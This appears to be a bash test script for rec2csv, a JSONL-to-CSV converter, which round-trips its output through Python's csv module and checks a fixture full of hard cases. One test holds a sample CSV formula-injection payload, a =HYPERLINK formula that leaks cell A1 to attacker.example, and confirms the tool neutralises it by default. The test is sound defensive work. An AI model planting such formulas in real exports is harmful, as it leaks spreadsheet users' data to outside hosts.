#!/usr/bin/env bash
# Python's csv module reads rec2csv's tables back: every field equal to the
# value the oracle (oracle.py, from the records by Python's json) expects,
# guarded or raw, for every table and the fixture made to be hard (quotes,
# commas, CR/LF inside fields, non-ASCII, a 8 KB field, blanks).
source "$PP_SRC/tests/lib.sh"
F=$PP_SRC/fixtures/rec2csv
R=$PP_BIN/rec2csv
CHECK=$PP_SRC/tests/rec2csv/check_csv.py
command -v python3 >/dev/null || { echo "SKIP: python3 not found"; exit 77; }
echo "python3: $(command -v python3) ($(python3 --version 2>&1))"

# roundtrip INPUT ARGS...: rec2csv ARGS INPUT, read back by check_csv.py.
roundtrip() {
  local input=$1
  shift
  pp_run 0 "$R" "$@" "$input" || return
  cp "$PP_TMP/out" "$PP_TMP/t.csv"
  pp_run 0 python3 "$CHECK" "$input" "$PP_TMP/t.csv" "$@" && echo "$(basename "$input") $*: $(cat "$PP_TMP/out")"
}

for f in basic hard guard; do
  for t in participants organizations places quotes contacts; do
    roundtrip "$F/$f.jsonl" --table "$t"
    roundtrip "$F/$f.jsonl" --table "$t" --raw
  done
  roundtrip "$F/$f.jsonl" --no-header
  roundtrip "$F/$f.jsonl" --bom --raw
  roundtrip "$F/$f.jsonl" --columns role
  roundtrip "$F/$f.jsonl" --columns aliases,role,name,organization,headline,source_name --raw
done
# Bad lines are skipped; the oracle skips them too.
pp_run 1 "$R" "$F/bad.jsonl" && cp "$PP_TMP/out" "$PP_TMP/bad.csv" &&
  pp_run 0 python3 "$CHECK" "$F/bad.jsonl" "$PP_TMP/bad.csv"

# The acceptance case by name: a role starting with =HYPERLINK( is inert by
# default (leading apostrophe) and exact with --raw.
HL='=HYPERLINK("http://attacker.example/?leak="&A1,"Click here")'
for mode in guarded --raw; do
  args=()
  [ "$mode" = --raw ] && args=(--raw)
  pp_run 0 "$R" "${args[@]}" -c name,role "$F/guard.jsonl" || continue
  cp "$PP_TMP/out" "$PP_TMP/hl.csv"
  pp_run 0 python3 -c '
import csv, sys
rows = list(csv.reader(open(sys.argv[1], encoding="utf-8", newline="")))
role = dict((r[0], r[1]) for r in rows[1:])["Mallory Injector"]
want = sys.argv[2] if sys.argv[3] == "--raw" else "\x27" + sys.argv[2]
sys.exit(0 if role == want else "role is %r, want %r" % (role, want))
'  "$PP_TMP/hl.csv" "$HL" "$mode" && echo "guard.jsonl $mode: the =HYPERLINK( role reads back as expected"
done

# The hard fixture holds what it claims (so the round trip proves something).
pp_run 0 "$R" --raw "$F/hard.jsonl"
pp_checks=$((pp_checks + 1))
python3 - "$PP_TMP/out" <<'PY' || pp_fail "hard.jsonl lacks a hard case"
import csv, sys
rows = list(csv.reader(open(sys.argv[1], encoding="utf-8", newline="")))
cells = [c for r in rows[1:] for c in r]
need = {
    "a double quote": lambda c: '"' in c,
    "a comma": lambda c: "," in c,
    "a bare LF": lambda c: "\n" in c.replace("\r\n", ""),
    "a CRLF": lambda c: "\r\n" in c,
    "a TAB": lambda c: "\t" in c,
    "Cyrillic": lambda c: any("\u0400" <= ch <= "\u04ff" for ch in c),
    "Arabic": lambda c: any("\u0600" <= ch <= "\u06ff" for ch in c),
    "CJK": lambda c: any("\u4e00" <= ch <= "\u9fff" for ch in c),
    "an astral character": lambda c: any(ord(ch) > 0xFFFF for ch in c),
    "a combining mark": lambda c: "\u0301" in c,
    "leading and trailing blanks": lambda c: c.startswith(" ") and c.endswith(" "),
    "a field over 8000 bytes": lambda c: len(c.encode()) > 8000,
}
missing = [k for k, f in need.items() if not any(f(c) for c in cells)]
if missing:
    sys.exit("missing: " + ", ".join(missing))
PY

pp_done
